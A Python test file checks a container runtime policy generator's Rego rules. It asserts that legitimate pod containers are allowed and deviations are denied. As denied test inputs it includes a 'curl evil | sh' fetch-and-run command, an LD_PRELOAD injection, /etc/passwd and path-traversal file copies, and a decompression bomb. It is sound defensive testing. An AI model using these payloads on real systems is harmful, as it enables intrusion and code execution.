"""The runtime policy: deterministic initdata, its hash, and what the Rego actually allows (evaluated)."""

from __future__ import annotations

import copy
import hashlib
import tomllib
from typing import Any

import hobofan_regorus as regorus
import pytest
from generate_builders import digest_image, pod_spec
from hypothesis import given, settings
from hypothesis import strategies as st

from contrast.errors import RequestError
from contrast.generate import inject
from contrast.generate import policy as pol
from contrast.generate.images import INITIALIZER_IMAGE

SHARED_DIR = "/run/kata-containers/shared/containers/"
SHARED = SHARED_DIR + "abc123-hosts"
EPHEMERAL_DIR = "/run/kata-containers/sandbox/ephemeral/"


def mnt(destination: str, source: str, *options: str) -> dict[str, Any]:
    return {"destination": destination, "source": source, "options": list(options)}


def build(spec: dict[str, Any] | None = None, **kw: Any) -> pol.Policy:
    return pol.build(spec if spec is not None else pod_spec(), namespace="shop", ref="Pod shop/p", **kw)


def rego_text(p: pol.Policy) -> str:
    doc = tomllib.loads(p.initdata.decode())
    text = doc["data"][pol.POLICY_KEY]
    assert isinstance(text, str)
    return text


def engine(p: pol.Policy) -> Any:
    e = regorus.Engine()
    e.add_policy("policy.rego", rego_text(p))
    return e


def allowed(e: Any, rule: str, request: dict[str, Any]) -> bool:
    e.set_input(request)
    result = e.eval_rule(f"data.agent_policy.{rule}")
    assert isinstance(result, bool)
    return result


def container_request(**changes: Any) -> dict[str, Any]:
    """The CreateContainerRequest kata-agent would see for the default pod_spec() container."""
    req: dict[str, Any] = {
        "OCI": {
            "Annotations": {
                "io.kubernetes.cri.container-type": "container",
                "io.kubernetes.cri.container-name": "app",
                "io.kubernetes.cri.image-name": digest_image("app"),
                "io.kubernetes.cri.sandbox-namespace": "shop",
            },
            "Process": {
                "Args": ["/bin/app", "--port", "8080"],
                "Env": [
                    "PATH=/usr/bin:/bin",
                    "HOSTNAME=p-1",
                    "MODE=prod",
                    "KUBERNETES_SERVICE_HOST=10.0.0.1",
                ],
                "Cwd": "/",
            },
            "Mounts": [
                {"destination": "/proc", "source": "proc", "options": []},
                {"destination": "/etc/hosts", "source": SHARED, "options": []},
                {
                    "destination": "/cache",
                    "source": "/run/kata-containers/shared/containers/x-cache",
                    "options": ["ro"],
                },
            ],
        }
    }
    for path, value in changes.items():
        node = req["OCI"]
        *parents, last = path.split("__")
        for p in parents:
            node = node[p]
        node[last] = value
    return req


def test_hash_is_sha256_of_initdata_and_annotation_roundtrips() -> None:
    p = build()
    assert p.hash_hex == hashlib.sha256(p.initdata).hexdigest()
    assert pol.decode_annotation(p.annotation) == p.initdata
    doc = tomllib.loads(p.initdata.decode())
    assert doc["version"] == "0.1.0"
    assert doc["algorithm"] == "sha256"
    assert set(doc["data"]) == {"policy.rego"}


def test_deterministic_and_sensitive() -> None:
    assert build().initdata == build().initdata
    assert build().annotation == build().annotation
    other = pod_spec()
    other["containers"][0]["args"] = ["--port", "8081"]
    assert build(other).hash_hex != build().hash_hex


def test_allows_exactly_the_pod_container() -> None:
    e = engine(build())
    assert allowed(e, "CreateContainerRequest", container_request())


@pytest.mark.parametrize(
    ("name", "changes"),
    [
        ("other image", {"Annotations__io.kubernetes.cri.image-name": digest_image("evil")}),
        ("unknown container", {"Annotations__io.kubernetes.cri.container-name": "sidecar"}),
        ("other namespace", {"Annotations__io.kubernetes.cri.sandbox-namespace": "default"}),
        ("changed args", {"Process__Args": ["/bin/app", "--port", "8080", "--debug"]}),
        ("changed env value", {"Process__Env": ["MODE=debug"]}),
        ("dropped env", {"Process__Env": ["PATH=/bin"]}),
        ("extra env", {"Process__Env": ["MODE=prod", "LD_PRELOAD=/tmp/x.so"]}),
        ("duplicate env", {"Process__Env": ["MODE=prod", "MODE=debug"]}),
        ("missing mount", {"Mounts": [{"destination": "/proc", "source": "proc", "options": []}]}),
        (
            "read-only dropped",
            {
                "Mounts": [
                    {
                        "destination": "/cache",
                        "source": "/run/kata-containers/shared/containers/c",
                        "options": [],
                    }
                ]
            },
        ),
        (
            "extra host mount",
            {
                "Mounts": [
                    {
                        "destination": "/cache",
                        "source": "/run/kata-containers/shared/containers/c",
                        "options": ["ro"],
                    },
                    {"destination": "/host", "source": "/", "options": []},
                ]
            },
        ),
    ],
)
def test_denies_any_deviation(name: str, changes: dict[str, Any]) -> None:
    e = engine(build())
    assert not allowed(e, "CreateContainerRequest", container_request(**changes)), name


def test_denies_exec_and_host_operations() -> None:
    e = engine(build())
    for rule in ("ExecProcessRequest", "ReadStreamRequest", "WriteStreamRequest", "SetPolicyRequest"):
        assert not allowed(e, rule, {"container_id": "x", "process": {"Args": ["/bin/sh"]}}), rule
    assert not allowed(e, "CopyFileRequest", {"path": "/etc/passwd"})
    assert not allowed(e, "CopyFileRequest", {"path": "/run/kata-containers/shared/containers/../../x"})
    assert allowed(e, "CopyFileRequest", {"path": "/run/kata-containers/shared/containers/abc-resolv.conf"})
    assert allowed(e, "StartContainerRequest", {"container_id": "x"})


def test_sandbox_container_is_pause_only() -> None:
    e = engine(build())
    sandbox = {
        "OCI": {
            "Annotations": {
                "io.kubernetes.cri.container-type": "sandbox",
                "io.kubernetes.cri.sandbox-namespace": "shop",
            },
            "Process": {"Args": ["/pause"], "Env": ["PATH=/bin"], "Cwd": "/"},
            "Mounts": [
                {"destination": "/dev/shm", "source": "/run/kata-containers/sandbox/shm", "options": []}
            ],
        }
    }
    assert allowed(e, "CreateContainerRequest", sandbox)
    evil = copy.deepcopy(sandbox)
    evil["OCI"]["Process"]["Args"] = ["/bin/sh", "-c", "curl evil | sh"]
    assert not allowed(e, "CreateContainerRequest", evil)


def test_secrets_mount_must_be_guest_private() -> None:
    spec = pod_spec()
    inject.inject(
        spec,
        image=INITIALIZER_IMAGE,
        nats_url="nats://n:4222",
        coordinator_hashes=["ab" * 32],
        ref="Pod shop/p",
    )
    p = build(spec)
    e = engine(p)
    req = container_request()
    mounts = req["OCI"]["Mounts"]
    mounts.append(
        {
            "destination": "/contrast",
            "source": "/run/kata-containers/sandbox/ephemeral/contrast-secrets",
            "options": [],
        }
    )
    assert allowed(e, "CreateContainerRequest", req)
    # The host re-pointing /contrast at a host-shared directory would expose the secrets: denied.
    mounts[-1] = {
        "destination": "/contrast",
        "source": "/run/kata-containers/shared/containers/leak",
        "options": [],
    }
    assert not allowed(e, "CreateContainerRequest", req)
    init = [c for c in p.data["containers"] if c["init"]]
    assert [c["name"] for c in init] == [inject.INITIALIZER_NAME]


def test_host_provided_env_pins_only_the_name_and_warns() -> None:
    spec = pod_spec()
    spec["containers"][0]["env"].append(
        {"name": "POD_IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}}
    )
    p = build(spec)
    assert any("POD_IP" in w for w in p.warnings)
    e = engine(p)
    env = ["MODE=prod", "POD_IP=10.1.2.3"]
    assert allowed(e, "CreateContainerRequest", container_request(Process__Env=env))
    assert not allowed(e, "CreateContainerRequest", container_request(Process__Env=["MODE=prod"]))


def test_kubernetes_variable_expansion() -> None:
    spec = pod_spec()
    c = spec["containers"][0]
    c["env"] = [{"name": "PORT", "value": "9000"}, {"name": "ADDR", "value": ":$(PORT)"}]
    c["args"] = ["--listen", "$(ADDR)", "$$(PORT)", "$(UNKNOWN)"]
    data = build(spec).data["containers"][0]
    assert data["args"] == ["/bin/app", "--listen", ":9000", "$(PORT)", "$(UNKNOWN)"]
    assert {e["name"]: e["value"] for e in data["env"]}["ADDR"] == ":9000"
    c["env"].append({"name": "IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}})
    c["args"] = ["$(IP)"]
    with pytest.raises(RequestError) as err:
        build(spec)
    assert err.value.code == "request.workload_invalid"


INVALID = "request.workload_invalid"


@pytest.mark.parametrize(
    ("mutate", "code"),
    [
        (lambda s: s["containers"][0].update(image="nginx:latest"), "request.image_not_pinned"),
        (lambda s: s["containers"][0].update(image="nginx@sha256:abc"), "request.image_not_pinned"),
        (lambda s: s["containers"][0].pop("command"), "request.command_missing"),
        (
            lambda s: s["containers"][0].update(envFrom=[{"configMapRef": {"name": "x"}}]),
            "request.workload_invalid",
        ),
        (lambda s: s.update(hostNetwork=True), "request.workload_invalid"),
        (
            lambda s: s["containers"][0]["volumeMounts"].append({"name": "nope", "mountPath": "/x"}),
            "request.workload_invalid",
        ),
        (lambda s: s["containers"].append(dict(s["containers"][0])), "request.workload_invalid"),
    ],
)
def test_refusals(mutate: Any, code: str) -> None:
    spec = pod_spec()
    mutate(spec)
    with pytest.raises(RequestError) as e:
        build(spec)
    assert e.value.code == code


def test_mutable_images_only_with_override_and_loudly() -> None:
    spec = pod_spec()
    spec["containers"][0]["image"] = "nginx:latest"
    p = build(spec, allow_mutable_images=True)
    assert any("MUTABLE" in w for w in p.warnings)


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60))
def test_toml_string_roundtrips_anything(s: str) -> None:
    doc = tomllib.loads(f"x = {pol._toml_string(s)}\n")
    assert doc["x"] == s


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40))
def test_any_env_value_gives_valid_initdata(value: str) -> None:
    spec = pod_spec()
    spec["containers"][0]["env"] = [{"name": "V", "value": value.replace("\x00", "")}]
    p = build(spec)
    text = rego_text(p)
    e = regorus.Engine()
    e.add_policy("policy.rego", text)
    assert e.eval_rule("data.agent_policy.ExecProcessRequest") is False


def test_decode_annotation_bounds() -> None:
    import base64
    import gzip

    bomb = base64.b64encode(gzip.compress(b"\0" * (5 * 1024 * 1024), mtime=0)).decode()
    with pytest.raises(RequestError):
        pol.decode_annotation(bomb)
    with pytest.raises(RequestError):
        pol.decode_annotation("not base64!")


@pytest.mark.parametrize(
    ("image", "normalized"),
    [
        ("nginx@sha256:" + "a" * 64, "docker.io/library/nginx@sha256:" + "a" * 64),
        ("org/app:1@sha256:" + "a" * 64, "docker.io/org/app:1@sha256:" + "a" * 64),
        ("ghcr.io/org/app@sha256:" + "a" * 64, "ghcr.io/org/app@sha256:" + "a" * 64),
        ("localhost/app@sha256:" + "a" * 64, "localhost/app@sha256:" + "a" * 64),
        ("registry:5000/app@sha256:" + "a" * 64, "registry:5000/app@sha256:" + "a" * 64),
    ],
)
def test_policy_names_images_as_the_runtime_reports_them(image: str, normalized: str) -> None:
    spec = pod_spec()
    spec["containers"][0]["image"] = image
    assert build(spec).data["containers"][0]["image"] == normalized


def test_shared_directory_names_cannot_climb() -> None:
    e = engine(build())
    for path in ("..", ".", "../x", "a/b"):
        assert not allowed(e, "CopyFileRequest", {"path": SHARED_DIR + path}), path
    mounts = [mnt("/cache", SHARED_DIR + "..", "ro")]
    assert not allowed(e, "CreateContainerRequest", container_request(Mounts=mounts))
